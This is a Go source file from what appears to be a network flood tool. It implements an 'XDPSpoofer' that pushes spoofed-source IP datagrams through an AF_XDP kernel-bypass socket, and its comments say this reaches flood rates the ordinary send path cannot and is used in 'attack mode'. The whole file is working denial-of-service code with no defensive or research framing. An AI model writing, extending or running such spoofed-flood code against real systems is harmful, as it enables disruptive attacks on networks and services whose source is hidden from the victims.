package main

import (
	"fmt"
	"net"
	"sync"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/slavc/xdp"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// XDPSpoofer pushes spoofed datagrams through an AF_XDP socket instead
// of the raw IP socket, for flood rates the ordinary send path cannot
// reach. It frames each datagram in ethernet itself, so it needs the
// interface and next-hop MACs up front.
//
// The raw socket path stays the default; this one is selected with
// -interface in attack mode.
type XDPSpoofer struct {
	mu     sync.Mutex
	xsk    *xdp.Socket
	srcMAC net.HardwareAddr
	dstMAC net.HardwareAddr
}

// NewXDPSpoofer attaches an XDP socket to the configured interface queue
// and resolves the link-layer addressing for frames toward targetAddr.
func NewXDPSpoofer(config *Config, targetAddr net.IP) (*XDPSpoofer, error) {
	link, err := netlink.LinkByName(config.NIC)
	if err != nil {
		return nil, fmt.Errorf("finding interface %s: %w", config.NIC, err)
	}

	srcMAC, dstMAC, err := resolveMACAddresses(config, targetAddr, link)
	if err != nil {
		return nil, err
	}

	xsk, err := xdp.NewSocket(link.Attrs().Index, config.QueueID, nil)
	if err != nil {
		return nil, wrapSocketErr("creating XDP socket", err)
	}

	appLogger.Debug("XDP socket on %s queue %d, %v -> %v", config.NIC, config.QueueID, srcMAC, dstMAC)
	return &XDPSpoofer{xsk: xsk, srcMAC: srcMAC, dstMAC: dstMAC}, nil
}

func (s *XDPSpoofer) Send(d *SpoofedDatagram) error {
	packet, err := d.Marshal()
	if err != nil {
		return err
	}

	buf := gopacket.NewSerializeBuffer()
	eth := &layers.Ethernet{
		SrcMAC:       s.srcMAC,
		DstMAC:       s.dstMAC,
		EthernetType: layers.EthernetTypeIPv4,
	}
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{}, eth, gopacket.Payload(packet)); err != nil {
		return fmt.Errorf("framing spoofed datagram: %w", err)
	}
	frame := buf.Bytes()

	// The xdp socket is not safe for concurrent use; flood workers
	// serialize here while still owning their own packet buffers.
	s.mu.Lock()
	defer s.mu.Unlock()

	descs := s.xsk.GetDescs(1, false)
	for len(descs) == 0 {
		if _, _, err := s.xsk.Poll(20); err != nil && err != unix.ETIMEDOUT {
			return fmt.Errorf("polling XDP socket: %w", err)
		}
		if n := s.xsk.NumCompleted(); n > 0 {
			s.xsk.Complete(n)
		}
		descs = s.xsk.GetDescs(1, false)
	}

	frameLen := copy(s.xsk.GetFrame(descs[0]), frame)
	descs[0].Len = uint32(frameLen)
	s.xsk.Transmit(descs[:1])
	return nil
}

// Close drains outstanding completions so no queued frame is lost, then
// tears the socket down.
func (s *XDPSpoofer) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	for s.xsk.NumTransmitted() > 0 {
		if _, _, err := s.xsk.Poll(100); err != nil && err != unix.ETIMEDOUT {
			break
		}
		if n := s.xsk.NumCompleted(); n > 0 {
			s.xsk.Complete(n)
		}
	}
	s.xsk.Close()
	return nil
}
